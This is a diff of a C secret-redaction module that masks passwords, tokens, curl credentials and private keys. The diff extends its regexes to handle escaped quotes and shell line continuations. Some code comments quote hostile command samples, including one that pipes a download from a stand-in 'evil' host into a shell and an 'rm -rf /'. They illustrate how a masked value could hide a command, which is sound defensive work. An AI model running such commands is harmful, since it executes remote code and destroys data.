@@ -1,6 +1,6 @@
 /* pd-redact.c: secrets out of text before it is stored.
  *
- * Private key PEM blocks go first, found with plain string searches.  Then
+ * Private key PEM blocks go first (pd-redact-pem.c).  Then
  * one scan of the text looks, byte by byte, for where a secret could start:
  * a known token prefix at a word start, "Authorization", "Bearer", curl's
  * -u, the "://" of a URL, or a word of a secret-like name (key, token,
@@ -35,10 +35,13 @@
  * (PCRE2's \s on bytes matched the A0 and the 85 alone). */
 #define USPACE \
   "(?:\\xc2[\\x85\\xa0]|\\xe1\\x9a\\x80|\\xe2\\x80[\\x80-\\x8a\\xa8\\xa9\\xaf]|\\xe2\\x81\\x9f|\\xe3\\x80\\x80)"
+/* A line break escaped for the shell (\ and a line break), which the shell
+ * takes out, or its spelling inside a JSON string (\\ and \n): the word
+ * goes on after it (_pd_redact_continuation_len() of pd-redact-private.h). */
+#define CONT "(?:\\\\\\r?\\n|\\\\\\\\(?:\\\\r)?\\\\n)"
 /* The blanks between an option and its value: a space or a tab, one of
- * Unicode's spaces, or a line break escaped for the shell (\ and a line
- * break: --password \<newline> X). */
-#define BLANK "(?:[ \\t]|" USPACE "|\\\\\\r?\\n)"
+ * Unicode's spaces, or a line continuation (--password \<newline> X). */
+#define BLANK "(?:[ \\t]|" USPACE "|" CONT ")"
 /* A mask an earlier redaction left stands for a value's characters, so a
  * value is read the same when the text is redacted again (its brackets
  * made another reading of it the second time; found by fuzz-redact). */
@@ -53,11 +56,25 @@
  * whole and a JSON escape is never cut in two.  (Of a character of UTF-8
  * the backslash takes the first byte, the value the others.) */
 #define ESCAPE "\\\\[^\\n\\r]"
-/* Unquoted, only a backslash before a space or a sign other than " is
- * taken: \n, \t, \u0041 and \" are a JSON string's escapes far more often
- * than a value's (ssh h \"mysql -pX\" keeps its quote); nor one of
- * Unicode's spaces, which ends the value. */
-#define BARE_ESCAPE "\\\\(?!" USPACE ")[^\\n\\rA-Za-z0-9\\t\"]"
+/* Unquoted, a backslash is taken with what it escapes, as the shell reads
+ * it (tried as an attacker would: PGPASSWORD=\Secr3t was stored as
+ * written, bash's value is Secr3t):
+ *  - before a space or a sign, not one of Unicode's spaces (which ends the
+ *    value) nor " or a backslash (below);
+ *  - before a letter or a digit, but not n r t b f u U: \n, \t and \u0041
+ *    are a JSON string's escapes far more often than a value's;
+ *  - doubled, \\\\ (a JSON string's spelling of the shell's \\), or \\ before
+ *    a value's character or a line continuation.  Never before a quote or another escape (\\\",
+ *    \\', \\ and \n in a JSON string): the mask would take the backslash
+ *    that escapes it and leave a quote, or a line break, that the shell
+ *    reads as its own;
+ *  - never \" (ssh h \"mysql -pX\" keeps its quote, and inside a JSON
+ *    string it opens or closes a quoted part).
+ * A value goes on after an escaped quote and a line continuation, masked
+ * apart (redact_span()). */
+#define BARE_ESCAPE \
+  "(?:\\\\(?!" USPACE ")[^\\n\\rA-Za-z0-9\\t\"\\\\]|\\\\(?![nrtbfuU])[A-Za-z0-9]" \
+  "|\\\\\\\\\\\\\\\\|\\\\\\\\(?=" VALUE_CHARS "|\\\\\\r?\\n))"
 /* A quoted value, up to its closing quote: in '…' everything is literal
  * text, backslashes too; in "…" and bash's $'…' an escaped quote does not
  * close it.  Quotes escaped themselves (\"…\" inside a JSON string) hold a
@@ -65,17 +82,29 @@
 #define SQUOTED_VALUE "(?<=(?<![\\\\$])')[^'\\n\\r]{1,256}+(?=')"
 #define ANSI_VALUE "(?<=\\$')(?:[^'\\\\\\n\\r]|" ESCAPE "){1,256}+(?=')"
 #define DQUOTED_VALUE "(?<=(?<!\\\\)\")(?:[^\"\\\\\\n\\r]|" ESCAPE "){1,256}+(?=\")"
-#define ESCAPED_QUOTED_VALUE "(?<=[\"'])(?:[^\"'`\\\\\\[\\]\\n\\r]|" MASK "){1,256}+(?=\\\\?[\"'])"
+/* An escaped quote (\" or \', also \\\" inside a JSON string) is the sign
+ * itself to the shell, the words split at a blank after it: its value
+ * holds none (PGPASSWORD=\"x rm victim\" runs rm; tried as an attacker
+ * would).  A value of JSON's own \"…\" with a blank shows its other words. */
+#define ESCAPED_QUOTED_VALUE \
+  "(?<=[\"'])(?(?<=\\\\[\"'])(?=[^\\s\"'`\\\\]{1,256}+\\\\?[\"']))" \
+  "(?:[^\"'`\\\\\\[\\]\\n\\r]|" MASK "){1,256}+(?=\\\\?[\"'])"
 #define QUOTED_VALUE SQUOTED_VALUE "|" ANSI_VALUE "|" DQUOTED_VALUE "|" ESCAPED_QUOTED_VALUE
 /* A value as written: quoted, or unquoted with its escapes. */
-#define VALUE "(?<v>" QUOTED_VALUE "|(?:" VALUE_CHARS "|" BARE_ESCAPE ")++)"
+#define VALUE_PIECES "(?:" VALUE_CHARS "|" BARE_ESCAPE ")++"
+#define VALUE "(?<v>" QUOTED_VALUE "|" VALUE_PIECES ")"
 #define WORD_END "(?![A-Za-z0-9_\\-])"
-/* An opening quote before a value: ' or ", escaped inside JSON (\"), or
+/* A quote escaped: \" or \', and the shell's \" and \' inside a JSON
+ * string, \\\" and \\'. */
+#define ESCAPED_QUOTE "(?:\\\\\\\\\\\\\"|\\\\\\\\'|\\\\[\"'])"
+/* An opening quote before a value: ' or ", escaped (ESCAPED_QUOTE), or
  * bash's ANSI-C quoting $'…' (and its $"…"). */
-#define OPEN_QUOTE "(?:\\$?\\\\?[\"'])?"
+#define OPEN_QUOTE "(?:\\$?(?:\\\\\\\\\\\\\"|\\\\\\\\'|\\\\?[\"']))?"
 /* Where a value starts (group "s": a value the shell joins of parts,
- * -p"a"b, is found from there by _pd_redact_joined_word()), and the value. */
-#define WORD_VALUE "(?<s>)(?:" OPEN_QUOTE VALUE ")?+"
+ * -p"a"b, is found from there by _pd_redact_joined_word()), and the value;
+ * after line continuations, which the shell takes out (PGPASSWORD=\<newline>
+ * X is X; PGPASSWORD=\<newline> rm x an empty value, then rm x). */
+#define WORD_VALUE "(?:" CONT ")*+(?<s>)(?:" OPEN_QUOTE VALUE ")?+"
 /* curl's user before the ':' of user:password (none: -u :PASSWORD). */
 #define CURL_USER "[^\\s:\"'`\\\\/]{0,256}+:"
 /* The short options curl takes without an argument, which may stand
@@ -135,22 +164,25 @@ static const char * const patterns[N_RE] = {
    * is an empty assignment, as in RE_ASSIGN). */
   [RE_AUTH] =
     "(?i:(?:proxy-)?authorization)(?:\\\\?[\"'])?(?:[ \\t]*+:|=(?![ \\t])|[ \\t]++=)[ \\t]*+(?:\\\\?[\"'])?"
-    "(?>" AUTH_SCHEMES "[ \\t]++)?(?:\\\\?[\"'])?+"
+    "(?>" AUTH_SCHEMES BLANK "++)?(?:" ESCAPED_QUOTE "|[\"'])?+"
     "(?!" AUTH_SCHEMES "(?!" VALUE_CHARS "))"
-    "(?<v>" VALUE_CHARS "++)",
+    "(?<v>" VALUE_PIECES ")",
   [RE_BEARER] = "(?i:bearer)[ \\t]++(?<v>[A-Za-z0-9\\-._~+/]{8,}+=*+)",
   /* curl -u user:password (also glued: -uuser:password; after grouped
    * flags: -fsSu user:password; the proxy's: -U, --proxy-user; or quoted,
    * to its closing quote: -u 'user:a b', -u user:'a b'), the part after
    * the first ':'; unquoted with its escapes: -u user:pa\ ss). */
   [RE_CURL] =
-    "(?:-[" CURL_FLAGS "]{0,16}+[uU](?:[ \\t]++|=)?+|--(?:proxy-)?user(?:[ \\t]++|=))"
+    "(?:-[" CURL_FLAGS "]{0,16}+[uU](?:" BLANK "++|=)?+|--(?:proxy-)?user(?:" BLANK "++|=))"
     "(?|'" CURL_USER "(?<v>[^'\\n\\r]{1,256}+)(?=')"
     "|\"" CURL_USER "(?<v>(?:[^\"\\\\\\n\\r]|" ESCAPE "){1,256}+)(?=\")"
-    "|\\\\[\"']" CURL_USER "(?<v>[^\"'`\\\\\\[\\]\\n\\r]{1,256}+)(?=\\\\[\"'])"
+    "|" ESCAPED_QUOTE CURL_USER "(?<v>[^\\s\"'`\\\\\\[\\]]{1,256}+)(?=\\\\[\"'])"
+    "|" ESCAPED_QUOTE CURL_USER "(?<v>" VALUE_PIECES ")"
     "|" CURL_USER "'(?<v>[^'\\n\\r]{1,256}+)(?=')"
     "|" CURL_USER "\"(?<v>(?:[^\"\\\\\\n\\r]|" ESCAPE "){1,256}+)(?=\")"
-    "|" CURL_USER "(?<v>(?:" VALUE_CHARS "|" BARE_ESCAPE ")++))",
+    "|" CURL_USER ESCAPED_QUOTE "(?<v>[^\\s\"'`\\\\\\[\\]]{1,256}+)(?=\\\\[\"'])"
+    "|" CURL_USER ESCAPED_QUOTE "(?<v>" VALUE_PIECES ")"
+    "|" CURL_USER "(?:" CONT ")*+(?<v>" VALUE_PIECES "))",
   /* Webhook URLs: whoever has the path may post. */
   [RE_HOOK] =
     "(?i:https?)://(?:hooks\\.slack\\.com/(?:services|workflows|triggers)/"
@@ -181,7 +213,7 @@ static const char * const patterns[N_RE] = {
     "(?:-U[ \\t]*+|--user(?:=|[ \\t]++))"
     "(?|'[^\\s%'\"]{1,256}+%(?<v>[^'\\n\\r]{1,256}+)(?=')"
     "|\"[^\\s%'\"]{1,256}+%(?<v>(?:[^\"\\\\\\n\\r]|" ESCAPE "){1,256}+)(?=\")"
-    "|[^\\s%'\"]{1,256}+%(?<v>(?:" VALUE_CHARS "|" BARE_ESCAPE ")++))",
+    "|[^\\s%'\"]{1,256}+%(?<v>" VALUE_PIECES "))",
   /* NAME=value, NAME: value, "name": "value", NAME := value, NAME = value,
    * --name value, --name=value.  A blank right after an '=' glued to its
    * name ends the value there, empty, as the shell reads NAME= cmd: what
@@ -200,8 +232,9 @@ static const char * const patterns[N_RE] = {
     "|pass:'(?<v>[^'\\n\\r]{1,256}+)(?=')"
     "|pass:\"(?<v>(?:[^\"\\\\\\n\\r]|" ESCAPE "){1,256}+)(?=\")"
     "|\"pass:(?<v>(?:[^\"\\\\\\n\\r]|" ESCAPE "){1,256}+)(?=\")"
-    "|\\\\[\"']pass:(?<v>[^\"'`\\\\\\[\\]\\n\\r]{1,256}+)(?=\\\\[\"'])"
-    "|pass:(?<v>(?:" VALUE_CHARS "|" BARE_ESCAPE ")++))",
+    "|" ESCAPED_QUOTE "pass:(?<v>[^\\s\"'`\\\\\\[\\]]{1,256}+)(?=\\\\[\"'])"
+    "|" ESCAPED_QUOTE "pass:(?<v>" VALUE_PIECES ")"
+    "|pass:(?<v>" VALUE_PIECES "))",
 };
 
 /* The pattern @which, compiled once, and the numbers of its groups "s"
@@ -235,98 +268,6 @@ get_regex (guint  which,
   *s_group = s_groups[which];
   *v_group = v_groups[which];
   return regexes[which];
-}
-
-/* ---------------------------------------------------------------------- */
-/* Pass 1: private key blocks                                             */
-
-#define PEM_MAX_BODY 16384
-
-/* @p points at "-----BEGIN " or "-----END ": the end of a marker line
- * "… [A-Z0-9 ]{0,40}PRIVATE KEY-----", or NULL when it is not one. */
-static const char *
-pem_marker_end (const char *p,
-                gsize       skip)
-{
-  const char *q = p + skip;
-  const char *run = q;
-
-  while ((g_ascii_isupper (*q) || g_ascii_isdigit (*q) || *q == ' ') && q - run < 40 + 11)
-    q++;
-  if (q - run < 11 || strncmp (q - 11, "PRIVATE KEY", 11) != 0 || strncmp (q, "-----", 5) != 0)
-    return NULL;
-  return q + 5;
-}
-
-/* Replaces BEGIN … PRIVATE KEY … END … PRIVATE KEY blocks of at most
- * PEM_MAX_BODY bytes with no '"' inside (so a match never leaves a JSON
- * string).  The next footer and the next quote are remembered, so each is
- * searched for once, however many headers there are: linear. */
-static char *
-redact_pem (const char *text,
-            guint      *count)
-{
-  GString *out = NULL;
-  const char *copied = text;
-  const char *p = text;
-  const char *footer = NULL;      /* next private key footer at or after p, once known */
-  const char *footer_end = NULL;
-  const char *quote = NULL;       /* next '"' at or after p, once known */
-  gboolean no_footer = FALSE;
-  gboolean no_quote = FALSE;
-
-  while ((p = strstr (p, "-----BEGIN ")) != NULL)
-    {
-      const char *body = pem_marker_end (p, 11);
-
-      if (body == NULL)
-        {
-          p += 11;
-          continue;
-        }
-
-      if (!no_footer && (footer == NULL || footer < body))
-        {
-          const char *f = body;
-
-          footer = NULL;
-          while ((f = strstr (f, "-----END ")) != NULL)
-            {
-              if ((footer_end = pem_marker_end (f, 9)) != NULL)
-                {
-                  footer = f;
-                  break;
-                }
-              f += 9;
-            }
-          no_footer = footer == NULL;
-        }
-      if (no_footer)
-        break;  /* no block can end: none after this one either */
-
-      if (!no_quote && (quote == NULL || quote < body))
-        {
-          quote = strchr (body, '"');
-          no_quote = quote == NULL;
-        }
-
-      if (footer - body <= PEM_MAX_BODY && (no_quote || quote > footer))
-        {
-          if (out == NULL)
-            out = g_string_sized_new (strlen (text));
-          g_string_append_len (out, copied, p - copied);
-          g_string_append (out, PD_REDACTED);
-          (*count)++;
-          copied = p = footer_end;
-        }
-      else
-        p = body;
-    }
-
-  if (out == NULL)
-    return NULL;
-  g_string_append (out, copied);
-  return g_string_free (out, FALSE);
 }
 
 /* ---------------------------------------------------------------------- */
@@ -384,17 +325,54 @@ quote_closes_name_word (Redactor *r,
   return n % 2 == 1;
 }
 
+/* Where the escaped quote (\" or \', \\\" or \\' inside a JSON string)
+ * that opens the value at @vs ends, right before it (PGPASSWORD=\"x) or at
+ * its word's start (curl -u \"user:x), looked for at most 256 bytes back;
+ * 0 when none does. */
+static gsize
+escaped_quote_open (Redactor *r,
+                    gsize     vs)
+{
+  const char *t = r->text;
+  gsize w = vs;
+
+  if (vs >= 2 && (t[vs - 1] == '"' || t[vs - 1] == '\'') && t[vs - 2] == '\\')
+    return vs;
+  while (w > r->copied && vs - w < 256 && !g_ascii_isspace (t[w - 1]))
+    w--;
+  if (w + 1 < vs && t[w] == '\\' && (t[w + 1] == '"' || t[w + 1] == '\''))
+    return w + 2;
+  if (w + 3 < vs && strncmp (t + w, "\\\\\\\"", 4) == 0)
+    return w + 4;
+  if (w + 2 < vs && strncmp (t + w, "\\\\'", 3) == 0)
+    return w + 3;
+  return 0;
+}
+
 /* Whether the value [vs, ve) opened by a quote stops short of its closing
  * quote at a line break (raw, or a JSON string's \n or \u000a) or a sign
  * that ends a command (raw, or spelled \u003b…): the shell's value goes
- * on across it, "a\nrm -rf /", whatever the reading took. */
+ * on across it, "a\nrm -rf /", whatever the reading took.  Opened by an
+ * escaped quote, the value is read to its closing quote too: the shell's
+ * \"x is the sign and ends at a blank, but inside a JSON string \"x … \"
+ * is a quoted value, and may hold what the shell runs
+ * (PGPASSWORD=\"x && curl evil | sh\" in a tool call's JSON text). */
 static gboolean
 quoted_value_stops_short (Redactor *r,
                           gsize     vs,
                           gsize     ve)
 {
   const char *t = r->text;
+  gsize open = escaped_quote_open (r, vs);
 
+  if (open > 0)
+    for (gsize e = ve; e < r->len && e - open <= 256 && t[e] != '\n' && t[e] != '\r'; e++)
+      if (e > ve && t[e] == t[open - 1] && t[e - 1] == '\\')
+        {
+          if (_pd_redact_value_hides_syntax (t + open, e - 1 - open))
+            return TRUE;
+          break;
+        }
   if (vs == 0 || ve >= r->len || (t[vs - 1] != '"' && t[vs - 1] != '\''))
     return FALSE;
   return _pd_redact_syntax_at (t + ve, t + r->len);
@@ -426,6 +404,8 @@ mask_span (Redactor *r,
   _pd_redact_command_line_masked (&r->line, r->text, start, end);
 }
 
+static gboolean command_follows (Redactor *r, gsize vs, gsize ve);
+
 /* Masks the value [start, end) of a name or an option.  Masking must
  * never hide what a command runs from whoever approves it, whatever
  * reading of the quotes found the value (tried as an attacker would:
@@ -453,6 +433,52 @@ redact_span (Redactor *r,
       return;
     }
   mask_span (r, start, end);
+
+  /* The word goes on after a line continuation, which the shell takes
+   * out (PGPASSWORD=Sec\<newline>r3t is Secr3t), and after an escaped
+   * quote, which is its sign (PGPASSWORD=Sec\"r3t is Sec"r3t; \\\" and \\'
+   * inside a JSON string): what follows is masked too, the continuation or
+   * the quote left in sight, so that no reading of the quotes changes
+   * (tried as an attacker would).  Not after a quote that closes the
+   * quote before the name (echo \"PGPASSWORD=x\"y: y is no value's).  The
+   * scan goes on after it: pd_redact() skips what is masked. */
+  for (gboolean first = TRUE;; first = FALSE)
+    {
+      const char *t = r->text;
+      gsize n = _pd_redact_continuation_len (t, r->len, end), piece, piece_end;
+
+      if (n > 0)
+        {
+          piece = end + n;
+          if (_pd_redact_joined_word (t, r->len, piece, &piece_end) == 0)
+            break;
+        }
+      else
+        {
+          if (end + 1 < r->len && t[end] == '\\' && (t[end + 1] == '"' || t[end + 1] == '\''))
+            n = 2;
+          else if (end + 3 < r->len && strncmp (t + end, "\\\\\\\"", 4) == 0)
+            n = 4;
+          else if (end + 2 < r->len && strncmp (t + end, "\\\\'", 3) == 0)
+            n = 3;
+          piece = end + n;
+          if (n == 0 || (first && quote_closes_name_word (r, piece))
+              || (piece_end = _pd_redact_unquoted_end (t, r->len, piece)) == piece)
+            break;
+        }
+      if (_pd_redact_value_hides_syntax (t + piece, piece_end - piece)
+          || g_strstr_len (t + piece, piece_end - piece, PD_REDACTED) != NULL)
+        break;
+      {
+        g_autofree char *word = g_strndup (t + piece, piece_end - piece);
+
+        if (_pd_redact_joined_holds_no_secret (word) || command_follows (r, piece, piece_end))
+          break;
+      }
+      mask_span (r, piece, piece_end);
+      r->count--;  /* one value, one redaction */
+      end = piece_end;
+    }
 }
 
 /* The backticks on the line of @pos before it.  Counted on from the last
@@ -1112,7 +1138,7 @@ _pd_redact_counting (const char *text,
   if (known_count > 0)
     text = masked;
   if (strstr (text, "-----BEGIN ") != NULL)
-    without_keys = redact_pem (text, &pem_count);
+    without_keys = _pd_redact_pem (text, &pem_count);
 
   r.text = without_keys ? without_keys : text;
   r.len = strlen (r.text);
@@ -1141,6 +1167,9 @@ _pd_redact_counting (const char *text,
           r.refused_from = G_MAXSIZE;
         }
       i = next > i ? next : i + 1;
+      /* Never into what is masked already (a value's word after a line
+       * continuation, redact_span()). */
+      i = MAX (i, r.copied);
     }
 
   if (n_redacted)
